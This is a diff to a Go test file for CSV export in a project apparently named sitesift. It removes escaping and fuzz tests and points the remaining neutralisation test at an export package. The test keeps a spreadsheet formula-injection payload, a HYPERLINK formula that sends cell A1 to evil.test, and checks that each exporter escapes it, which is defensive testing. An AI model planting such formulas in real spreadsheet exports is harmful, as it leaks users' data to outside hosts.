@@ -4,71 +4,15 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
-	"go/ast"
-	"go/parser"
-	"go/token"
 	"io"
-	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
 	"time"
 
+	"sitesift/app/export"
 	"sitesift/sites/store"
 )
-
-func TestCSVCell(t *testing.T) {
-	for _, tc := range []struct{ in, want string }{
-		{"=SUM(A1)", "'=SUM(A1)"},
-		{"+cmd", "'+cmd"},
-		{"-x.test", "'-x.test"},
-		{"@SUM(1)", "'@SUM(1)"},
-		{"\tx", "'\tx"},
-		{"\rx", "'\rx"},
-		{"-1+2", "'-1+2"},
-		{"-", "'-"},
-		{"-Inf", "'-Inf"},
-		{"-0x1p-2", "'-0x1p-2"},
-		{"'=x", "''=x"},
-		{"''-x", "'''-x"},
-		// Numbers stay numbers; other text stays as it is.
-		{"-0.5", "-0.5"},
-		{"1e-9", "1e-9"},
-		{"-1e-09", "-1e-09"},
-		{"+3", "+3"},
-		{"'-0.5", "''-0.5"},
-		{"a=b", "a=b"},
-		{"'x", "'x"},
-		{"'", "'"},
-		{"", ""},
-		{" =x", " =x"},
-		{"site.test", "site.test"},
-	} {
-		if got := csvCell(tc.in); got != tc.want {
-			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
-		}
-		if back := csvUncell(csvCell(tc.in)); back != tc.in {
-			t.Errorf("csvUncell(csvCell(%q)) = %q", tc.in, back)
-		}
-	}
-}
-
-// FuzzCSVCell: a cell csvCell writes never starts a formula unless it is a
-// decimal number, and csvUncell gives the text back.
-func FuzzCSVCell(f *testing.F) {
-	for _, s := range []string{"=1", "'=1", "-0.5", "-1+2", "''@", "x"} {
-		f.Add(s)
-	}
-	f.Fuzz(func(t *testing.T, s string) {
-		c := csvCell(s)
-		if c != "" && strings.IndexByte(csvFormulaStart, c[0]) >= 0 && !decimalNumber(c) {
-			t.Fatalf("csvCell(%q) = %q starts a formula", s, c)
-		}
-		if back := csvUncell(c); back != s {
-			t.Fatalf("csvUncell(csvCell(%q)) = %q", s, back)
-		}
-	})
-}
 
 // hostile is text a spreadsheet would run as a formula.
 const hostile = `=HYPERLINK("http://evil.test/?"&A1,"x")`
@@ -93,25 +37,25 @@ func TestCSVWritersNeutralise(t *testing.T) {
 			return WriteRatingsCSV(w, RatingsTable{Librarians: []string{h("")}, Rows: []RatingsRow{{Site: h("+"), Ratings: []int{2}, Mean: 2}}})
 		}, 2},
 		{"biased rank", func(w io.Writer) error {
-			return WriteBiasedRank(w, []BiasedRankRow{{Site: h("")}}, FormatCSV)
+			return WriteBiasedRank(w, []BiasedRankRow{{Site: h("")}}, export.CSV)
 		}, 1},
 		{"communities", func(w io.Writer) error {
-			return WriteCommunities(w, []Community{{Seed: h(""), Site: h("@")}}, FormatCSV)
+			return WriteCommunities(w, []Community{{Seed: h(""), Site: h("@")}}, export.CSV)
 		}, 2},
 		{"selection", func(w io.Writer) error {
-			return WriteSelection(w, []SelectedSeed{sel}, FormatCSV)
+			return WriteSelection(w, []SelectedSeed{sel}, export.CSV)
 		}, 6},
 		{"agreement", func(w io.Writer) error {
-			return WriteAgreement(w, Agreement{Rows: []AgreementRow{{Rater: h(""), Kind: h("-")}}}, FormatCSV)
+			return WriteAgreement(w, Agreement{Rows: []AgreementRow{{Rater: h(""), Kind: h("-")}}}, export.CSV)
 		}, 2},
 		{"review queue", func(w io.Writer) error {
-			return writeQueue(w, ReviewQueue{Rows: []QueueItem{{Site: h(""), Status: h("+")}}}, FormatCSV)
+			return writeQueue(w, ReviewQueue{Rows: []QueueItem{{Site: h(""), Status: h("+")}}}, export.CSV)
 		}, 2},
 		{"rank", func(w io.Writer) error {
-			return WriteRank(w, []RankRow{{Site: h("")}, {Site: "plain.test"}, {Site: h("-")}}, FormatCSV)
+			return WriteRank(w, []RankRow{{Site: h("")}, {Site: "plain.test"}, {Site: h("-")}}, export.CSV)
 		}, 2},
 		{"seeds", func(w io.Writer) error {
-			return WriteSeeds(w, []Seed{{SeedURL: h(""), Site: h("@")}}, FormatCSV)
+			return WriteSeeds(w, []Seed{{SeedURL: h(""), Site: h("@")}}, export.CSV)
 		}, 2},
 		{"lab", func(w io.Writer) error {
 			if err := lab.add("x.csv", [][]string{{"graph", "value"}, {h(""), "-0.25"}}, nil); err != nil {
@@ -133,7 +77,7 @@ func TestCSVWritersNeutralise(t *testing.T) {
 			found := 0
 			for _, row := range rows {
 				for _, c := range row {
-					if c != "" && strings.IndexByte(csvFormulaStart, c[0]) >= 0 && !decimalNumber(c) {
+					if c != "" && !strings.HasPrefix(c, "'") && export.Cell(c) != c {
 						t.Errorf("cell %q starts a formula", c)
 					}
 					if strings.HasSuffix(c, hostile) {
@@ -147,33 +91,6 @@ func TestCSVWritersNeutralise(t *testing.T) {
 			if found != tc.want {
 				t.Errorf("%d hostile cells, want %d: %q", found, tc.want, rows)
 			}
-		})
-	}
-}
-
-// TestCSVWriterEverywhere: no file of the package but csvout.go makes a
-// csv.Writer of its own, so every CSV goes through csvWriter.
-func TestCSVWriterEverywhere(t *testing.T) {
-	files, err := filepath.Glob("*.go")
-	if err != nil {
-		t.Fatal(err)
-	}
-	fset := token.NewFileSet()
-	for _, name := range files {
-		if strings.HasSuffix(name, "_test.go") || name == "csvout.go" {
-			continue
-		}
-		f, err := parser.ParseFile(fset, name, nil, 0)
-		if err != nil {
-			t.Fatal(err)
-		}
-		ast.Inspect(f, func(n ast.Node) bool {
-			if sel, ok := n.(*ast.SelectorExpr); ok {
-				if id, ok := sel.X.(*ast.Ident); ok && id.Name == "csv" && (sel.Sel.Name == "NewWriter" || sel.Sel.Name == "Writer") {
-					t.Errorf("%s: csv.%s: write CSV through newCSVWriter", fset.Position(sel.Pos()), sel.Sel.Name)
-				}
-			}
-			return true
 		})
 	}
 }
